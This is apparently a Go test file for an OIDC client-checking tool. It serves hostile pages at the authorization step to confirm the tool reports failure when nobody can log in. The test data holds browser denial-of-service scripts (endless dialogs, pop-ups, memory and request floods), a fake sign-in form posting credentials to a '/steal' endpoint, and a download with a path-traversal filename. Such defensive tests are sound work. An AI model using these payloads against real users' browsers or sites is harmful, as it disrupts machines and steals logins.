package command

import (
	"net/http"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/oidcheck/oidcheck/reports"
	"github.com/oidcheck/oidcheck/suites/proof"
)

// TestHostilePages: pages that do to a browser what they can end like all else.
// Nobody can log in on them, which is never a pass.
func TestHostilePages(t *testing.T) {
	for name, body := range map[string]string{
		"dialogs without end":      scripted(`for (;;) alert('zqx')`),
		"dialogs by timer":         scripted(`setInterval(() => { confirm('zqx'); prompt('zqx') }, 0)`),
		"pop-ups without end":      scripted(`for (let i = 0; i < 1e5; i++) open('/oidc/auth?' + i)`),
		"pop-ups of pop-ups":       scripted(`open(location.href + '&x'); setInterval(() => open(location.href + '&y'), 0)`),
		"reloads without end":      scripted(`location.reload()`),
		"history without end":      scripted(`setInterval(() => history.pushState(0, '', '?' + Math.random()), 0)`),
		"a script without end":     scripted(`for (;;) {}`),
		"microtasks without end":   scripted(`const f = () => Promise.resolve().then(f); f()`),
		"a page that grows":        scripted(`for (;;) document.write('<input name=zqx>')`),
		"memory without end":       scripted(`const a = []; for (;;) a.push(new Array(1e6).fill('zqx'))`),
		"requests without end":     scripted(`setInterval(() => { for (let i = 0; i < 100; i++) fetch('/oidc/x' + Math.random()) }, 0)`),
		"frames in frames":         scripted(`const f = document.createElement('iframe'); f.src = location.href + '&f'; document.documentElement.append(f)`),
		"holds on to the page":     scripted(`onbeforeunload = () => 'zqx'; setInterval(() => { location.href = '/oidc/auth?zqx' }, 0)`),
		"prints and asks for more": scripted(`print(); navigator.geolocation.getCurrentPosition(() => {}); Notification.requestPermission()`),
		"replaces what it stands on": scripted(`Object.prototype.toString = JSON.stringify = Array.prototype.map = Document.prototype.querySelectorAll =
			() => { throw new Error('zqx') }; window.document.title = 'zqx'`),
		"a title of a megabyte": "<title>" + strings.Repeat("zqx ", 1<<18) + "</title>",
		"shadows over the form": `<form action="https://127.0.0.1:1/steal" method=post><input name=username><input type=password name=password><button>Sign in</button></form>`,
	} {
		t.Run(name, func(t *testing.T) { browse(t, page(body)) })
	}
	t.Run("a download instead of a page", func(t *testing.T) {
		browse(t, func(w http.ResponseWriter, _ *http.Request, _ http.Handler) {
			w.Header().Set("Content-Disposition", "attachment; filename=../../zqx.exe")
			endless(w)
		})
	})
}

// browse runs the program in a browser: where the provider answers the
// authorization request, all is well; where spoil does, nobody gets on.
func browse(t *testing.T, spoil spoiler) {
	t.Helper()
	var hostile atomic.Bool
	b, err := proof.Start(proof.Options{Around: func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if hostile.Load() && strings.HasSuffix(r.URL.Path, atAuthorize) {
				spoil(w, r, next)
				return
			}
			next.ServeHTTP(w, r)
		})
	}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = b.Close() })
	p := newProgram(t)
	p.write("ca.pem", string(b.CACertificate))
	describeFront(t, p, b, "", "")
	run := []string{"run", "--driver", "browser", "--patience", "0s", "--only", "code-exchange@client_secret_basic", "--out", "out", "--target", "hostile.yml"}
	p.wants(reports.ExitOK, p.do(run...))
	hostile.Store(true)
	endure(t, p, hostility{wants: []string{"code-exchange"}}, run)
}

func scripted(body string) string { return "<script>" + body + "</script>" }
